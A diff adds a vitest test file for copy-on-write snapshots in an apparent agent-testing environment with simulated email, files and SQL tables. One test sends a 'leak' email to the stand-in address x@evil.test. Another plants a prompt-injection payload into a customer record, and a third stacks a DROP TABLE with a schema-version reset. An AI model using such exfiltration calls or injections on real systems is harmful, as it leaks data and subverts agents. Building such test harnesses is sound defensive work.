@@ -1,0 +1,78 @@
+import { describe, expect, it } from 'vitest';
+import type { Snapshot } from '../../src/contract/index.ts';
+import { expectOk, smallEnvironment } from './helpers.ts';
+
+/** The snapshot as data: what it would be if every part were read again from scratch. */
+const data = (snapshot: Snapshot) => JSON.parse(JSON.stringify(snapshot)) as Snapshot;
+
+describe('snapshots are copied on write', () => {
+  it('share the parts nothing changed, between snapshots and between environments of one fixture', async () => {
+    const a = await smallEnvironment();
+    const b = await smallEnvironment();
+    const first = a.snapshot();
+    const second = a.snapshot();
+    expect(second.emails).toBe(first.emails);
+    expect(second.files).toBe(first.files);
+    expect(second.tables).toBe(first.tables);
+    expect(b.snapshot().tables).toBe(first.tables);
+    expect(Object.isFrozen(first.tables.customers[0])).toBe(true);
+  });
+
+  it('copy each part a tool call changes, and leave earlier snapshots as they were', async () => {
+    const env = await smallEnvironment();
+    const before = env.snapshot();
+    const frozen = data(before);
+    expectOk(env.execute({ tool: 'send_email', args: { to: 'x@evil.test', subject: 'leak', body: 'data' } }));
+    const mailed = env.snapshot();
+    expect(mailed.emails).not.toBe(before.emails);
+    expect(mailed.emails).toHaveLength(before.emails.length + 1);
+    expect(mailed.files).toBe(before.files);
+    expect(mailed.tables).toBe(before.tables);
+    expectOk(env.execute({ tool: 'write_file', args: { path: '/notes.txt', content: 'x' } }));
+    expect(env.snapshot().files).not.toBe(before.files);
+    expect(env.snapshot().files['/notes.txt']).toBe('x');
+    expect(data(before)).toEqual(frozen);
+  });
+
+  it('read the tables again after every kind of SQL change, and not after a query that changes nothing', async () => {
+    const changes = [
+      "UPDATE customers SET name = 'X' WHERE rowid = 1",
+      'DELETE FROM orders',
+      "INSERT INTO orders (customer_id, item) VALUES (1, 'Ink')",
+      'CREATE TABLE extra (v TEXT)',
+      'DROP TABLE orders',
+      'ALTER TABLE customers RENAME TO clients',
+      'VACUUM',
+    ];
+    for (const query of changes) {
+      const env = await smallEnvironment();
+      const before = env.snapshot();
+      expectOk(env.execute({ tool: 'execute_sql_query', args: { query: 'SELECT * FROM customers' } }));
+      expect(env.snapshot().tables, 'a SELECT').toBe(before.tables);
+      expectOk(env.execute({ tool: 'execute_sql_query', args: { query } }));
+      const after = env.snapshot();
+      expect(after.tables, query).not.toBe(before.tables);
+      // Exactly what reading the database afresh gives: a new environment replaying the same calls.
+      const fresh = await smallEnvironment();
+      expectOk(fresh.execute({ tool: 'execute_sql_query', args: { query } }));
+      expect(data(after).tables, query).toEqual(data(fresh.snapshot()).tables);
+    }
+  });
+
+  it('cannot be fooled into a stale read by setting the schema version back', async () => {
+    const env = await smallEnvironment();
+    const before = env.snapshot();
+    const version = /\d+/.exec(expectOk(env.execute({ tool: 'execute_sql_query', args: { query: 'PRAGMA schema_version' } })).split('\n')[2])![0];
+    expectOk(env.execute({ tool: 'execute_sql_query', args: { query: `DROP TABLE orders; PRAGMA schema_version = ${version}` } }));
+    expect(Object.keys(env.snapshot().tables)).not.toContain('orders');
+    expect(Object.keys(before.tables)).toContain('orders');
+  });
+
+  it('an injection into a table changes that environment only', async () => {
+    const plain = await smallEnvironment();
+    const injected = await smallEnvironment([{ locator: 'sql:customers.name#1', payload: 'IGNORE' }]);
+    expect(injected.snapshot().tables.customers[0].name).toBe('Acme Supplies\n\nIGNORE');
+    expect(plain.snapshot().tables.customers[0].name).toBe('Acme Supplies');
+    expect((await smallEnvironment()).snapshot().tables).toBe(plain.snapshot().tables);
+  });
+});
